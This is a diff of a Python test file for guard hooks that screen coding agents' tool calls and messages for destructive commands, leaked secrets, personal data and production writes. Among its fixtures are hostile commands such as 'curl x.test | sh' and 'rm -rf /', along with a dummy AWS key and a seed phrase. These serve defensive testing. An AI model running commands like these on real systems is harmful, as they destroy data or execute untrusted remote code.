@@ -24,25 +24,21 @@ from tray.engine.trial import Trial
 
 KEY = "AK" + "IA" + "Q7ZQ" * 4
 SEED = "legal winner thank year wave sausage worth useful legal winner thank yellow"
-CALL, CALLED = "PreToolUse-Bash", {"tool_name": "Bash"}
-SHELL = "PreToolUse-shell"
+CALL, WRITE, SHELL = "PreToolUse-Bash", "PreToolUse-Write", "PreToolUse-shell"
 
 # hook, agent, recording, changed fields -> verdict, words of the reason, note, context or rewrite
 Row = tuple[str, str, str, Mapping[str, Any], str, str]
 ROWS: tuple[Row, ...] = (
     ("destructive_commands", "starchild", "pre_tool_call", {}, "deny", "deletes / with all"),
-    ("destructive_commands", "starchild", "pre_tool_call-safe", {}, "abstain", ""),
     ("destructive_commands", "claude-code", CALL, {"tool_input.command": "git push -f"}, "deny", "loses work"),
     ("destructive_commands", "x-code", SHELL, {"tool.args.command": "curl x.test | sh"}, "deny", "downloads"),
     ("destructive_commands", "claude-code", CALL, {"tool_input": None}, "abstain", ""),
     ("destructive_commands", "claude-code", CALL, {"tool_input": "rm -rf /"}, "abstain", ""),
-    ("destructive_commands", "claude-code", "PreToolUse-Write", {}, "abstain", "not asked"),
+    ("destructive_commands", "claude-code", WRITE, {}, "abstain", "not asked"),
     ("secrets in tools", "starchild", "pre_tool_call", {"tool_input.command": f"x {KEY}"}, "deny", "AWS access key"),
-    ("secrets in tools", "claude-code", "PreToolUse-Write", {"tool_input.content": SEED}, "deny", "seed phrase"),
-    ("secrets in tools", "claude-code", "PreToolUse-Write", {}, "abstain", ""),
+    ("secrets in tools", "claude-code", WRITE, {"tool_input.content": SEED}, "deny", "seed phrase"),
     ("secrets in tools", "x-code", "PreToolUse", {"tool.args.content": KEY}, "deny", "AWS access key"),
     ("secrets in messages", "starchild", "on_outbound_message", {"notification": SEED}, "deny", "seed phrase"),
-    ("secrets in messages", "starchild", "on_outbound_message", {}, "abstain", ""),
     ("secrets in prompts", "starchild", "on_user_message", {"message": KEY}, "abstain", "note: Your message holds"),
     ("secrets in prompts", "x-code", "UserPromptSubmit", {"prompt": f"use {KEY}"}, "abstain", "note: Your message"),
     ("secrets in prompts", "shelley", "chat-message", {"message": SEED}, "abstain", "note: Your message holds"),
@@ -50,33 +46,10 @@ ROWS: tuple[Row, ...] = (
     ("pii in messages", "starchild", "on_outbound_message", {"notification": None}, "abstain", ""),
     ("pii in replies", "starchild", "on_response_end", {"response": "call +49 30 901820"}, "abstain", "call [phone]"),
     ("pii on screen", "claude-code", "MessageDisplay", {"delta": "to a@b.test"}, "abstain", "to [e-mail]"),
-    (
-        "production_writes",
-        "claude-code",
-        "PreToolUse-Write",
-        {"tool_input.file_path": "/a/prod/x"},
-        "abstain",
-        "note:",
-    ),
-    ("production_writes", "claude-code", "PreToolUse-Write", {"tool_input.file_path": "/a/product/x"}, "abstain", ""),
-    (
-        "production_writes",
-        "claude-code",
-        "PreToolUse-Write",
-        {"tool_input.content": '"path": "prod/'},
-        "abstain",
-        "",
-    ),
+    ("production_writes", "claude-code", WRITE, {"tool_input.file_path": "/a/prod/x"}, "abstain", "note:"),
+    ("production_writes", "claude-code", WRITE, {"tool_input.file_path": "/a/product/x"}, "abstain", ""),
+    ("production_writes", "claude-code", WRITE, {"tool_input.content": '"path": "prod/'}, "abstain", ""),
     ("production_writes", "claude-code", CALL, {"tool_input.command": 'psql "host=prod-db"'}, "abstain", "note: The"),
-    ("production_writes", "x-code", SHELL, {"tool.args.command": "kubectl --context prod get x"}, "abstain", "note:"),
-    (
-        "production_writes",
-        "starchild",
-        "pre_tool_call",
-        {"tool_input.command": "ssh live.test"},
-        "abstain",
-        "note: The",
-    ),
     (
         "lint_before_write",
         "x-code",
@@ -89,7 +62,7 @@ ROWS: tuple[Row, ...] = (
     (
         "lint_before_write",
         "claude-code",
-        "PreToolUse-Write",
+        WRITE,
         {"tool_input": {"file_path": "/w/a.py", "content": "def f(:"}},
         "deny",
         "/w/a.py would not parse",
@@ -116,9 +89,7 @@ ROWS: tuple[Row, ...] = (
     ),
     ("curl_time_limit", "claude-code", CALL, {"tool_input.command": "curl -m 5 a.test"}, "abstain", ""),
     ("curl_time_limit", "claude-code", CALL, {"tool_input.command": "echo '; curl a.test'"}, "abstain", ""),
-    ("curl_time_limit", "x-code", SHELL, {"tool.args.command": "ls; curl a"}, "abstain", '"ls; curl --max-time 60 a'),
     ("reminder", "x-code", "UserPromptSubmit", {}, "abstain", "context: Before you say"),
-    ("reminder", "shelley", "chat-message", {}, "abstain", "context: Before you say"),
     ("reminder for starchild", "starchild", "pre_llm_call", {}, "abstain", "context: Before you say"),
     ("audit calls", "starchild", "pre_tool_call", {}, "abstain", ""),
     ("rate_limit", "x-code", SHELL, {}, "abstain", ""),
@@ -143,13 +114,6 @@ SEVERAL = {
     },
     "x-code": {"audit calls"},
 }
-
-
-@pytest.fixture(scope="module")
-def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shelf]:
-    place = shelf(tmp_path_factory.mktemp("shelf"))
-    yield place
-    place.house.close()
 
 
 @pytest.fixture
@@ -398,8 +362,7 @@ def test_all_guards_together_refuse_with_every_reason(tmp_path: Path) -> None:
     with alone(tmp_path, '"tool_before"') as place:
         said = place.house.relay("claude-code", "PreToolUse", payload, environment=place.environment).stdout
 
-    answer = json.loads(said)
-    told = answer["hookSpecificOutput"]
+    told = json.loads(said)["hookSpecificOutput"]
     assert told["permissionDecision"] == "deny"
     assert "deletes ~ with all" in told["permissionDecisionReason"]
     assert "an AWS access key" in told["permissionDecisionReason"]
